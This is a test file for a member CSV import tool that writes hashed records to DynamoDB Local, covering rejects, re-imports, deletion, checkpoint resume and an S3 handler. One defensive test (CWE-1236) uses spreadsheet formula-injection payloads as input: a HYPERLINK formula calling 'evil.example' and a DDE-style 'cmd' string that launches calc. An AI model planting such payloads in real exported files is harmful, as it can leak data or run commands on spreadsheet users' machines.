import { createReadStream } from 'node:fs';
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable, Writable } from 'node:stream';
import { parse as parseCsv } from 'csv-parse/sync';
import { ScanCommand, type DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { HmacFactorHasher } from '../../../functions/adapters/crypto/hmac-factor-hasher.js';
import { createDocumentClient } from '../../../functions/adapters/dynamo/dynamo-client.js';
import { DynamoMemberRepository } from '../../../functions/adapters/dynamo/dynamo-member-repository.js';
import { FileCheckpoint } from '../../../functions/import/file-checkpoint.js';
import { runImportCli } from '../../../functions/import/import-cli.js';
import { ImportAbortedError, importMembers } from '../../../functions/core/use-cases/import-members.js';
import { readMemberCsv } from '../../../functions/adapters/csv/member-csv-file.js';
import { createFreshTables, localClient } from '../../../functions/local/dynamodb-local.js';
import { DEFAULT_COMPANY_MEMBERS } from '../../../functions/local/emulators/test-identities.js';
import { s, SAMPLE_CSV, TEST_PEPPER } from '../../support/member-data.js';
import { createMembersImportS3Handler } from '../../../functions/handlers/members-import-s3.js';
import type { Context } from 'aws-lambda';

const endpoint = process.env.DYNAMODB_ENDPOINT!;
let dynamo: DynamoDBClient;
let dir: string;
beforeAll(async () => {
  dynamo = localClient(endpoint);
  dir = await mkdtemp(join(tmpdir(), 'member-import-'));
});
afterAll(async () => {
  dynamo.destroy();
  await rm(dir, { recursive: true, force: true });
});

/** A fresh members table. */
async function freshTable(): Promise<string> {
  return (await createFreshTables(dynamo, 'imp')).members;
}

async function items(table: string) {
  const out: Array<Record<string, unknown>> = [];
  let start: Record<string, never> | undefined;
  do {
    const page = await dynamo.send(new ScanCommand({ TableName: table, ExclusiveStartKey: start }));
    out.push(...(page.Items ?? []));
    start = page.LastEvaluatedKey as typeof start;
  } while (start);
  return new Map(out.map((i) => [s(i, 'memberId')!, i]));
}

/** Runs `npm run import -- …` in-process; returns exit code and output. */
async function cli(args: string[], env: Record<string, string> = {}) {
  let stdout = '';
  let stderr = '';
  const sink = (append: (t: string) => void) =>
    new Writable({
      write(chunk, _enc, done) {
        append(String(chunk));
        done();
      },
    });
  const code = await runImportCli([...args, '--endpoint', endpoint, '--no-progress'], {
    env: { MEMBER_HASH_PEPPER: TEST_PEPPER, ...env },
    cwd: dir,
    stdout: sink((t) => (stdout += t)),
    stderr: sink((t) => (stderr += t)),
  });
  return { code, stdout, stderr };
}

const HEADER = 'memberId,birthDate,postalCode,phone';
const row = (i: number, birth = '1990-04-12') =>
  `M-${String(i).padStart(6, '0')},${birth},100-0001,090-1234-5678`;
async function csvFile(name: string, lines: string[]) {
  const path = join(dir, name);
  await writeFile(path, `${lines.join('\n')}\n`);
  return path;
}

describe('member import into DynamoDB Local', () => {
  test('the sample CSV via the command line: hashed factors that the verification hasher reproduces', async () => {
    const table = await freshTable();
    const result = await cli([SAMPLE_CSV, '--table', table]);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(
      /read {7}6\n {2}written {4}6\n {2}unchanged {2}0\n {2}rejected {3}0\n {2}deleted {4}0/,
    );
    expect(result.stdout).toContain('ignored columns: phone (never stored)'); // not in MEMBER_FACTORS
    const stored = await items(table);
    expect([...stored.keys()].sort()).toEqual(DEFAULT_COMPANY_MEMBERS.map((m) => m.memberId));
    const hasher = new HmacFactorHasher(TEST_PEPPER);
    for (const m of DEFAULT_COMPANY_MEMBERS) {
      const expected = await hasher.hashFactors(m.memberId, {
        birthDate: m.birthDate,
        postalCode: m.postalCode,
      });
      const item = stored.get(m.memberId)!;
      const factors = (item.factors as { M: Record<string, { S: string }> }).M;
      expect(Object.fromEntries(Object.entries(factors).map(([k, v]) => [k, v.S]))).toEqual(expected);
      expect(s(item, 'companyUserId')).toBe(m.memberId);
    }
  });

  test('bad rows go to the rejects file with line and reason; the rest are imported; exit code 2', async () => {
    const table = await freshTable();
    const path = await csvFile('bad.csv', [
      HEADER,
      row(1),
      'M-000002,1990-02-30,1000001,',
      ',1990-04-12,1000001,',
      row(4),
      'M-000005,1990-04-12,ABC-DEF,0901234',
      row(1),
    ]);
    const result = await cli([path, '--table', table]);
    expect(result.code).toBe(2);
    expect(result.stdout).toContain('rejected   4 (see');
    const rejects = await readFile(`${path}.rejects.csv`, 'utf8');
    expect(rejects).toBe(
      [
        'line,memberId,reason',
        '3,M-000002,"birthDate is not a valid date (use YYYY-MM-DD, YYYYMMDD or YYYY/M/D)"', // quoted: it has commas
        '4,,memberId is missing',
        '6,M-000005,postalCode must be 3–10 digits (hyphens and spaces are ignored)',
        '7,M-000001,duplicate memberId (an earlier row has it; the first one is kept)',
        '',
      ].join('\r\n'), // RFC 4180 record ends
    );
    expect([...(await items(table)).keys()].sort()).toEqual(['M-000001', 'M-000004']);
  });

  test('the rejects file shows member numbers that look like formulas as text (CWE-1236)', async () => {
    const table = await freshTable();
    const ids = ['=HYPERLINK("http://evil.example/?x")', "+cmd|'/Ccalc'!A0", '-1+1', '@SUM(A1)'];
    const path = await csvFile('formulas.csv', [
      HEADER,
      ...ids.map((id) => `"${id.replaceAll('"', '""')}",1990-02-30,1000001,`),
    ]);
    expect((await cli([path, '--table', table])).code).toBe(2);
    const rows = parseCsv(await readFile(`${path}.rejects.csv`, 'utf8')) as string[][];
    expect(rows.slice(1).map((r) => r[1])).toEqual(ids.map((id) => `'${id}`));
  });

  test('a file without a required column is refused, nothing written', async () => {
    const table = await freshTable();
    const path = await csvFile('nocol.csv', ['memberId,birthDate', 'M-1,1990-04-12']);
    const result = await cli([path, '--table', table]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('line 1: the header lacks required column postalCode');
    expect((await items(table)).size).toBe(0);
  });

  test('a changed re-import writes only the changed rows; --delete-missing removes absent ones', async () => {
    const table = await freshTable();
    const lines = [HEADER, ...Array.from({ length: 1000 }, (_, i) => row(i))];
    const path = await csvFile('members.csv', lines);
    expect((await cli([path, '--table', table])).code).toBe(0);
    const first = await items(table);

    lines[11] = row(10, '1970-01-01');
    lines[501] = row(500, '1970/1/2');
    lines.push(row(1000), row(1001));
    await writeFile(path, `${lines.join('\n')}\n`);
    const second = await cli([path, '--table', table]);
    expect(second.stdout).toMatch(/read {7}1002\n {2}written {4}4\n {2}unchanged {2}998\n/);
    const after = await items(table);
    const rewritten = [...after.values()].filter(
      (i) => s(i, 'importedAt') !== s(first.get(s(i, 'memberId')!) ?? {}, 'importedAt'),
    );
    expect(rewritten.map((i) => s(i, 'memberId')).sort()).toEqual([
      'M-000010',
      'M-000500',
      'M-001000',
      'M-001001',
    ]);

    const kept = lines.filter((_, i) => i === 0 || i % 10 !== 0); // drop every tenth data row
    await writeFile(path, `${kept.join('\n')}\n`);
    const third = await cli([path, '--table', table, '--delete-missing', '--yes']);
    expect(third.code).toBe(0);
    expect(third.stdout).toMatch(
      /written {4}0\n {2}unchanged {2}902\n {2}rejected {3}0\n {2}deleted {4}100\n/,
    );
    const remaining = await items(table);
    expect(remaining.size).toBe(902);
    expect(remaining.has('M-000009')).toBe(false);
    expect(remaining.has('M-000010')).toBe(true);
  }, 60_000);

  test('an interrupted import resumes from its checkpoint', async () => {
    const table = await freshTable();
    const lines = [HEADER, ...Array.from({ length: 3000 }, (_, i) => row(i))];
    const path = await csvFile('resume.csv', lines);
    const { size, mtimeMs } = await stat(path);
    // The first run stops after ~1000 rows, as Ctrl+C would; it saves the checkpoint the CLI reads.
    const checkpoint = new FileCheckpoint(`${path}.checkpoint.json`, { source: path, size, mtimeMs, table });
    const controller = new AbortController();
    const client = createDocumentClient({ endpoint });
    await expect(
      importMembers(readMemberCsv(createReadStream(path)), {
        store: new DynamoMemberRepository(client, table),
        hasher: new HmacFactorHasher(TEST_PEPPER),
        requiredFactors: ['birthDate', 'postalCode'],
        concurrency: 2,
        signal: controller.signal,
        checkpoint: { save: (st) => checkpoint.save(st) },
        onProgress: (p) => p.read >= 1000 && controller.abort(),
      }),
    ).rejects.toBeInstanceOf(ImportAbortedError);
    client.destroy();
    const saved = (await checkpoint.load()).state!;
    expect(saved.doneRows).toBeGreaterThanOrEqual(1000);
    expect(saved.doneRows).toBeLessThan(3000);

    const resumed = await cli([path, '--table', table]);
    expect(resumed.code).toBe(0);
    expect(resumed.stderr).toContain(`Resuming after row ${saved.doneRows}`);
    expect(resumed.stdout).toContain(`read       3000 (${saved.doneRows} done before the interruption)`);
    expect((await items(table)).size).toBe(3000);
    await expect(stat(`${path}.checkpoint.json`)).rejects.toThrow(); // cleared when done
  }, 60_000);

  test('without an endpoint or region the CLI asks for `npm start`', async () => {
    const code = await runImportCli([SAMPLE_CSV, '--no-progress'], {
      env: { MEMBER_HASH_PEPPER: TEST_PEPPER },
      cwd: dir,
      endpointFile: join(dir, 'no-dev-server'),
      stdout: new Writable({ write: (_c, _e, done) => done() }),
      stderr: new Writable({
        write(chunk, _e, done) {
          expect(String(chunk)).toMatch(/npm start/);
          done();
        },
      }),
    });
    expect(code).toBe(1);
  });

  test('the S3-triggered handler streams the object through the same import', async () => {
    const table = await freshTable();
    const client = createDocumentClient({ endpoint });
    const requested: string[] = [];
    const objects: Record<string, string> = {
      'imports/members 2026.csv': await readFile(SAMPLE_CSV, 'utf8'),
      'imports/broken.csv': 'memberId,phone\nM-1,0312345678\n',
    };
    const handler = createMembersImportS3Handler({
      objects: {
        read: async (_bucket, key) => {
          requested.push(key);
          return Readable.from([Buffer.from(objects[key]!)]);
        },
      },
      store: new DynamoMemberRepository(client, table),
      hasher: new HmacFactorHasher(TEST_PEPPER),
      requiredFactors: ['birthDate', 'postalCode'],
      deleteMissing: false,
      concurrency: 4,
    });
    const event = (key: string) =>
      ({ Records: [{ s3: { bucket: { name: 'b' }, object: { key } } }] }) as never;
    // A context without a deadline: nothing here runs near the function's timeout.
    const context = {} as Context;
    await handler(event('imports/members+2026.csv'), context);
    await handler(event('imports/broken.csv'), context); // refused, logged, not thrown (no pointless retry)
    client.destroy();
    expect(requested).toEqual(['imports/members 2026.csv', 'imports/broken.csv']);
    expect((await items(table)).size).toBe(6);
  });
});
